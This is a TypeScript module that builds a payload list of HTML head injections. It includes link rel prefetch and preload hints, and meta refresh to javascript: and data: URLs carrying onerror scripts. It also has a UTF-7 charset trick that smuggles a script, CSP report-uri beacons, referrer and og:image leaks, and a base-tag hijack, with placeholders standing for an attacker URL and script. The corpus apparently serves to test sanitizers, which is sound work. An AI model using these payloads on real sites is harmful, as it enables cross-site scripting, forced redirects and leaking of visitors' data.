// What speaks to the browser before the page shows anything: links in the head, and `meta` in place of headers.

import { payloads, type Payload } from './payload.ts';

const relations =
  'preconnect dns-prefetch prefetch prerender preload modulepreload subresource next prev stylesheet icon shortcut apple-touch-icon mask-icon manifest search ' +
  'canonical alternate import pingback serviceworker expect compression-dictionary privacy-policy monetization first last up author help license me';

const attributes = 'as=image as=script as=style as=font as=fetch as=document crossorigin';

export const hints: readonly Payload[] = [
  ...relations.split(' ').flatMap((relation) =>
    payloads('hint', {
      [`link ${relation}`]: ({ load }) => `<link rel=${relation} href="${load}">`,
      [`link ${relation}, twice and in capitals`]: ({ load }) => `<LINK REL=" x ${relation.toUpperCase()} y " HREF="${load}" sizes=any type=image/png media=all>`,
    }),
  ),
  ...attributes.split(' ').flatMap((attribute) =>
    payloads('hint', {
      [`link preload, ${attribute}`]: ({ load }) => `<link rel=preload ${attribute} href="${load}" fetchpriority=high>`,
      [`link preload set, ${attribute}`]: ({ load }) => `<link rel=preload ${attribute} imagesrcset="${load} 1x" imagesizes=100vw>`,
    }),
  ),
  ...payloads('hint', {
    'refresh': ({ load }) => `<meta http-equiv=refresh content="0;url=${load}">`,
    'refresh to a script': ({ run }) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
    'refresh to data': ({ run }) => `<meta http-equiv=refresh content="0;url=data:text/html,<img src=x onerror=${run}>">`,
    'refresh, oddly written': ({ load }) => `<meta content="0, URL = '${load}'" http-equiv="ReFreSh"><meta http-equiv="&#114;efresh" content="0;${load}">`,
    'a policy that reports': ({ load }) => `<meta http-equiv=content-security-policy content="default-src 'none'; report-uri ${load}"><meta http-equiv=content-security-policy-report-only content="default-src 'none'; report-uri ${load}"><img src=x>`,
    'other headers': ({ load }) => `<meta http-equiv=link content="<${load}>; rel=preload; as=image"><meta http-equiv=set-cookie content="a=b"><meta http-equiv=x-dns-prefetch-control content=on><meta http-equiv=origin-trial content=x><meta http-equiv=accept-ch content=dpr><meta http-equiv=content-language content="x">`,
    'another charset': ({ run }) => `<meta charset=utf-7><meta http-equiv=content-type content="text/html; charset=utf-7">+ADw-img src=x onerror=${run}+AD4-<meta charset=iso-2022-jp>`,
    'names': ({ load }) => `<meta name=referrer content=unsafe-url><meta property=og:image content="${load}"><meta name=twitter:image content="${load}"><meta name=theme-color content="url(${load})"><meta itemprop=image content="${load}"><meta name=viewport content="width=1,url=${load}">`,
    'a base': ({ load }) => `<base href="${load}/"><img src=a.png><link rel=stylesheet href=b.css>`,
  }),
];
